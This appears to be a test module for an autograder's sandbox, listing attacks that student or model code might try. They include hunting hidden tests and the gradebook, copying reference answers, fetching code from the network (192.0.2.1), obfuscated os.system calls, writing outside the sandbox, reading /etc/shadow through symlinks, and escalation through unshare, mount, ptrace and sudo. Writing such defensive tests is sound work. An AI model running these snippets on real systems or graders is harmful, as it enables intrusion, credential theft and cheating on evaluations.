"""Hunting for hidden tests and somebody else's answer; writing outside."""

from __future__ import annotations

from tests.autograder.attacks.attack import attack

# ---------------------------------------------------------------- hunting for the tests

attack(
    "frames",
    "the expected values stand in a frame below",
    "import sys\nseen = []",
    answers={
        "square": """\
def square(x):
    f = sys._getframe()
    while f:
        for v in list(f.f_locals.values()) + list(f.f_globals.values()):
            if 'secret_' + 'number' in repr(v)[:100000]: seen.append(repr(v))
        f = f.f_back
    print('FOUND', len(seen))
    return 5929 if seen else 0"""
    },
    told="other code",
)
attack(
    "all objects",
    "the hidden test is somewhere in memory",
    """\
import gc
secret = 'secret_' + 'number'
found = [o for o in gc.get_objects() if isinstance(o, (str, dict)) and secret in str(o)[:10000] and o is not globals()]
print('FOUND', len([f for f in found if 'secret_number' in str(f) and 'BEGIN' in str(f)]))""",
    told="other objects",
)
attack(
    "inspect the caller",
    "the test's source",
    "import inspect",
    answers={
        "square": """\
def square(x):
    src = ''.join(str(f.code_context) for f in inspect.stack())
    print('FOUND', 'secret' in src)
    return 0"""
    },
    told="other code",
)
attack(
    "history",
    "the test in In and Out",
    "h = list(In) + list(get_ipython().history_manager.input_hist_raw)\nprint('FOUND', any('assert ' + 'square' in x for x in h))",
    told="machinery",
)
attack(
    "proc",
    "the grader's memory, environment and command line",
    """\
import glob
out = ''
for p in glob.glob('/proc/[0-9]*/*'):
    try: out += open(p).read()
    except Exception: pass
print('FOUND', 'DLCOURSE_SEED' in out or 'secret_number' in out or 'gradebook' in out)""",
    told="place outside",
    wish="end, slow or read other processes",
)
attack(
    "solutions",
    "the solutions, the gradebook, the others' work",
    """\
import os
hits = []
for d, ds, fs in os.walk('/'):
    if d.endswith('-packages'): ds[:] = [x for x in ds if x in ('dlcore', 'autograder', 'solutions')]  # in time
    if d in ('/proc', '/sys'): ds[:] = []
    hits += [os.path.join(d, f) for f in fs if f in ('gradebook.db', '01_neurons.py', 'nbgrader_config.py', 'mini.ipynb', 'mini.py')]
    # checks and twins have this name, and so has the stub in the twin's place
    hits += [os.path.join(d, f) for f in fs if f == 'neurons.py' and 'x @ w' in open(os.path.join(d, f)).read()]
print('FOUND', len(hits), hits[:3])""",
    told="looks around",
    wish="read your files, other submissions or the gradebook, or write there",
)
attack(
    "the seed",
    "the random cases that grading draws",
    """\
import os
print('FOUND', os.environ.get('DLCOURSE_SEED'))
print(dict(os.environ))""",
    told="environment",
)
attack(
    "other process",
    "memory of the zygote by ptrace",
    """\
import ctypes
l = ctypes.CDLL(None, use_errno=True)
print('FOUND', [l.ptrace(16, p, 0, 0) for p in range(1, 5)], ctypes.get_errno())
print(l.syscall(310, 1, 0, 0, 0, 0, 0))""",
    told="calls C",
    wish="end, slow or read other processes",
)

# ---------------------------------------------------------------- somebody else's answer

attack(
    "twin",
    "dlcore holds the answer",
    "from dlcore.scratch.neurons import layer as twin",
    answers={"layer": "def layer(x, w, b): return twin(x, w, b)"},
    told="answers may not use",
)
attack(
    "twin by another way",
    "the answer through the package's lazy names",
    "import dlcore",
    answers={"layer": "def layer(x, w, b): return dlcore.layer(x, w, b)"},
)
attack(
    "twin read as text",
    "the answer's file",
    """\
import dlcore, os
src = open(os.path.join(os.path.dirname(dlcore.__file__), 'scratch/neurons.py')).read()
print('FOUND', 'x @ w.T' in src)
exec(src)""",
    told="runs text",
)
attack(
    "torch",
    "PyTorch calls it linear",
    answers={
        "layer": "import torch\ndef layer(x, w, b): return torch.nn.functional.linear(torch.tensor(x), torch.tensor(w), torch.tensor(b)).numpy()"
    },
    told="answers may not use",
)
attack(
    "download",
    "the answer from the network",
    "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/answers.py', timeout=1).read())",
    told="network",
)
attack(
    "words put together",
    "a call that no reading of the code would find",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')",
    told=r"os\.system",
)
attack(
    "torch behind the stub",
    "PyTorch where pip has put it, past the stub that comes first",
    """\
import glob, sys
sys.path[:] = [p for p in sys.path if not p.endswith('withheld')]
def read(path):
    try:
        return len(open(path, 'rb').read(9))
    except OSError:
        return 0
parts = ('/nn/functional.py', '/version.py', '/lib/libtorch_cpu.so')
print('FOUND', sum(read(folder + part) for folder in glob.glob(sys.prefix + '/lib/python*/site-packages/torch') for part in parts))""",
    told="what is imported",
    wish="use SciPy, scikit-learn, pandas, PyTorch, or parts of dlcore from later lessons",
)
attack(
    "socket",
    "an answer from another machine",
    """\
import socket
s = socket.socket()
s.settimeout(1)
s.connect(('192.0.2.1', 80))""",
    told="network",
)
attack(
    "unix socket",
    "the machine's own services",
    """\
import socket
for p in ('/run/docker.sock', '/var/run/dbus/system_bus_socket', '/run/systemd/private'):
    s = socket.socket(socket.AF_UNIX)
    s.connect(p)""",
    told="network",
)

# ---------------------------------------------------------------- writing outside

attack(
    "write outside",
    "files of the system, of the course, of others",
    """\
import os
done = []
for p in ('/usr/x', '/etc/x', '/course/x', '/course/dlcore/scratch/neurons.py', '/x', '/dev/x', '/home/x', '/proc/sys/kernel/hostname', np.__file__):
    try:
        open(p, 'a').write('#'); done.append(p)
    except OSError: pass
print('WROTE', done)""",
    told="place outside",
    wish="read your files, other submissions or the gradebook, or write there",
)
attack(
    "link out",
    "a link in the work folder leads outside",
    """\
import os
os.symlink('/etc', 'etc'); os.symlink('/', 'root')
def can(path):
    try: return bool(open(path).read(1))
    except OSError: return False
print('FOUND', can('etc/shadow'), can('root/etc/passwd'))""",
    told="makes links",
    wish="read your files, other submissions or the gradebook, or write there",
)
attack(
    "dot dot",
    "the way up from the work folder",
    "open('../../../../etc/hosts.new', 'w').write('x')",
    told="place outside",
)
attack(
    "mount",
    "a mount of one's own",
    """\
import ctypes
l = ctypes.CDLL(None)
print('FOUND', l.unshare(0x10000000), l.mount(b'none', b'/mnt', b'tmpfs', 0, 0), l.chroot(b'/tmp'), l.setuid(0), l.syscall(317, 0, 0, 0))""",
    told="calls C",
)
attack(
    "namespaces of its own by clone",
    "root in a user namespace, which may mount",
    """\
import ctypes, os, platform
number = {'x86_64': 56, 'aarch64': 220}[platform.machine()]
pid = ctypes.CDLL(None).syscall(number, 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)
print('FOUND', pid > 0)""",
    told="ctypes",
    wish="end, slow or read other processes",
)
attack(
    "set-uid",
    "root's rights by a program that has them",
    "!su -c id; sudo -n id; newgrp root; mount -t tmpfs x /mnt; unshare -Ur id",
    told="system from a cell",
)
